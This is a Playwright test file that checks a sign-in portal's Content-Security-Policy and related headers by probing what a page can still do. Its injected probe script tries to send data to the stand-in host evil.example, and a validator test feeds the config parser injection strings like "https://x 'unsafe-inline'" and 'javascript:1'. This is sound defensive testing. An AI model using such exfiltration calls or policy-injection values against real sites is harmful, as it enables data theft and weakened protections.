// What each header of the table is for: a page tries what it forbids and what the portal needs, and without any one header
// or directive something comes out otherwise.
import { test } from '@playwright/test';
import { expect } from '../support/journey.mjs';
import { asHeader, asMeta, headersOf, origins, pagePolicy, redirectPolicy } from '../../../web/hosting/policy.mjs';
import { listen } from '../support/listen.mjs';
import { portalDist } from '../support/programs.mjs';
import { servePortal } from '../support/portal-server.mjs';
import { readFileSync } from 'node:fs';

const POLICY = 'Content-Security-Policy';

/** With all headers: what was refused, and what else a page of ours and one of another host found. */
const EXPECTED = {
  refused: ['base-uri', 'connect-src', 'font-src', 'form-action', 'frame-src', 'img-src', 'object-src', 'require-trusted-types-for', 'trusted-types'],
  sniffed: false,
  camera: false,
  referrer: undefined,
  framed: false,
  opener: false,
  embedded: false,
};

const PROBE = `<!doctype html><link rel="stylesheet" href="app.css"><script src="probe.txt"></script><script type="module" src="probe.js"></script>
<iframe name="own" title="own" src="auth.html"></iframe><img alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="><embed src="favicon.svg">`;

/** Runs in the page: everything that a policy could refuse. */
const SCRIPT = `
const refused = new Set();
document.addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
const tried = async (work) => { try { await work(); } catch {} };
await tried(() => fetch('config.json'));
await tried(() => fetch('https://evil.example/?secret'));
await tried(() => new FontFace('x', 'url(data:font/woff2;base64,AA)').load());
await tried(() => (document.createElement('div').innerHTML = '<b>x</b>'));
await tried(() => trustedTypes.createPolicy('other', {}));
const add = (name, members) => document.body.append(Object.assign(document.createElement(name), members));
add('img', { src: 'https://evil.example/x.png' });
add('iframe', { src: 'https://evil.example/' });
add('base', { href: 'https://evil.example/' });
const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', target: 'own' });
document.body.append(form);
form.submit();
window.parent.postMessage('framed', '*');
globalThis.result = () => ({ refused: [...refused].sort(), sniffed: Boolean(globalThis.sniffed), camera: document.featurePolicy.allowsFeature('camera') });
`;

/** A page of another site: it frames the portal, opens it, and shows a picture of it. */
const OTHER = (home) => `<!doctype html><script>
  const found = { framed: false, embedded: false };
  addEventListener('message', () => (found.framed = true));
  const open = () => window.open('${home}probe.html');
</script><iframe title="portal" src="${home}probe.html"></iframe><img alt="" src="${home}favicon.svg" onload="found.embedded = true">`;

const without = (object, name) => Object.fromEntries(Object.entries(object).filter(([key]) => key !== name));

test('without any one header or directive, something comes out otherwise', async ({ browser }) => {
  const site = await servePortal({ dist: portalDist() });
  const hosts = origins({ clientId: 'some' });
  const all = without(headersOf('probe.html', hosts), POLICY);
  const whole = pagePolicy(hosts);
  let answer = {};
  let referrer;
  site.files['probe.html'] = PROBE;
  site.files['probe.js'] = SCRIPT;
  site.files['probe.txt'] = 'globalThis.sniffed = true;';
  site.headers = (name) => (name === 'auth.html' ? {} : { ...answer.headers, [POLICY]: asHeader(answer.policy) });
  const other = await listen((request, response) => {
    referrer = request.headers.referer;
    response.setHeader('Content-Type', 'text/html').end(OTHER(site.url));
  });
  const otherHome = `http://127.0.0.1:${other.port}/`;

  /** What comes of it all with these headers. */
  async function outcome(headers, policy) {
    answer = { headers, policy };
    const context = await browser.newContext();
    await context.route('https://evil.example/**', (route) => route.abort());
    try {
      const page = await context.newPage();
      await page.goto(`${site.url}probe.html`);
      // a policy that refuses our own scripts refuses the probe
      const ran = await page.waitForFunction(() => globalThis.result, undefined, { timeout: 2_000 }).then(() => true, () => false);
      if (!ran) return { ran };
      await page.waitForTimeout(300);
      const ours = await page.evaluate(() => globalThis.result());
      referrer = undefined;
      await page.evaluate((url) => void (location.href = url), otherHome);
      await page.waitForURL(otherHome);
      await page.waitForLoadState();
      const opened = context.waitForEvent('page');
      await page.evaluate('void open()');
      const tab = await opened;
      await tab.waitForLoadState();
      const opener = await tab.evaluate(() => window.opener !== null);
      return { ...ours, referrer, opener, ...(await page.evaluate('found')) };
    } finally {
      await context.close();
    }
  }

  try {
    expect(await outcome(all, whole)).toEqual(EXPECTED);
    const missed = [];
    for (const directive of Object.keys(whole)) {
      // what is in no other directive is in default-src: plug-ins are refused by both
      const base = directive === 'object-src' ? without(whole, 'default-src') : whole;
      const before = base === whole ? EXPECTED : await outcome(all, base);
      const after = await outcome(all, without(base, directive));
      if (JSON.stringify(Object.entries(after).sort()) === JSON.stringify(Object.entries(before).sort())) missed.push(directive);
    }
    // that sign-in needs encryption is the browser's affair, which heeds no such header on this computer; the cache has its own test
    for (const header of Object.keys(without(without(all, 'Strict-Transport-Security'), 'Cache-Control'))) {
      const after = await outcome(without(all, header), whole);
      if (JSON.stringify(Object.entries(after).sort()) === JSON.stringify(Object.entries(EXPECTED).sort())) missed.push(header);
    }
    expect(missed).toEqual([]);
  } finally {
    await Promise.all([site.close(), other.close()]);
  }
});

test('the pages have the policy of the table', () => {
  const read = (name) => readFileSync(new URL(`../../../${name}`, import.meta.url), 'utf8');
  expect(read('index.html')).toContain(`content="${asMeta(pagePolicy(origins()))}"`);
  expect(read('web/static/auth.html')).toContain(`content="${asMeta(redirectPolicy())}"`);
});

test('a config.json names the hosts of the policy, and no other', () => {
  expect(origins({ clientId: 'x' })).toEqual({ signIn: ['https://login.microsoftonline.com'], graph: ['https://graph.microsoft.com'] });
  expect(origins({ clientId: 'x', cloud: 'china' }).graph).toEqual(['https://microsoftgraph.chinacloudapi.cn']);
  expect(origins({ clientId: 'x', authority: 'https://id.example/t', graphBaseUrl: 'https://graph.example', authorityMetadata: '{"token_endpoint":"https://t.example/a"}' })).toEqual({
    signIn: ['https://id.example', 'https://t.example'],
    graph: ['https://graph.example'],
  });
  for (const wrong of ['http://graph.example', 'https://a;b', "https://x 'unsafe-inline'", 'https://u@graph.example', 'graph.example', 'javascript:1']) {
    expect(() => origins({ clientId: 'x', graphBaseUrl: wrong }), wrong).toThrow('no address');
  }
  expect(() => origins({ clientId: 'x', cloud: 'moon' })).toThrow('`moon`');
});
